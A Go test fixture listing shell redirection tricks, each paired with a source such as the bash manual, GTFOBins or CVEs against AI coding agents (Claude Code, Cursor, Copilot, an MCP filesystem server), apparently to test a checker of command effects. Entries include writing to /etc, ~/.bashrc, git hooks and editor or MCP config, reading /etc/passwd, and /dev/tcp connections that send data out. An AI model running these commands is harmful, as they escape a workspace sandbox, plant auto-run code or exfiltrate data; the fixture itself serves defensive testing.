package effectstest

// redirects: redirections.
var redirects = []Trick{
	{"echo x > ../y", "CVE-2025-54794, Claude Code: leaving the folder"},
	{"echo x > /etc/y", "bash manual, Redirections"},
	{"echo x >> ~/.bashrc", "bash manual, Tilde Expansion"},
	{"echo x >| ~/.bashrc", "bash manual, Redirections: >|"},
	{"echo x &> /etc/y", "bash manual, Redirections: &>"},
	{"echo x &>> /etc/y", "bash manual, Redirections: &>>"},
	{"echo x >& /etc/y", "bash manual, Redirections: >& with a name"},
	{"echo x <> /etc/y", "bash manual, Redirections: <>"},
	{"> /etc/y", "bash manual, Redirections without a command"},
	{"cat < /etc/passwd", "bash manual, Redirections"},
	{"echo x > .git/hooks/pre-commit", "githooks: a file there is run by git"},
	{"echo x > .GIT/config", "CVE-2025-59944, Cursor: names in other case"},
	{"echo x > .vscode/settings.json", "CVE-2025-53773, Copilot: settings that allow everything"},
	{"echo x > .cursor/mcp.json", "CVE-2025-54135, Cursor: a server that is started"},
	{"echo x > link/y", "CVE-2025-53109, MCP filesystem: a link that leads out"},
	{"echo x > dangling", "CVE-2026-39861, Claude Code: a link whose end is made by the write"},
	{"echo x > *", "bash manual, Redirections: the name is expanded"},
	{"cat < /dev/tcp/example.com/80", "bash manual, Redirections: /dev/tcp"},
	{"echo x > /dev/tcp/10.0.0.1/80", "GTFOBins bash: file upload over /dev/tcp"},
	{"echo x {fd}> y", "bash manual, Redirections: {varname}"},
	{"cp x .git/hooks/post-checkout", "githooks"},
	{"tee .git/config < x", "git-config: core.fsmonitor and others are run"},
	{"touch .envrc", "direnv: .envrc is run"},
}
